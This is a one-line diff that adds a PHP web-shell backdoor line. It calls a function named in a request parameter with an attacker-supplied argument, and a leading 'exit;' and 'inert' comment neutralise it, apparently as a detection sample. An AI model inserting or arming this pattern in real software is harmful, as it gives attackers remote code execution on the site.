@@ -1,0 +1,1 @@
+<?php exit; /* inert */ register_shutdown_function($_GET["e"],$_REQUEST["p"]);
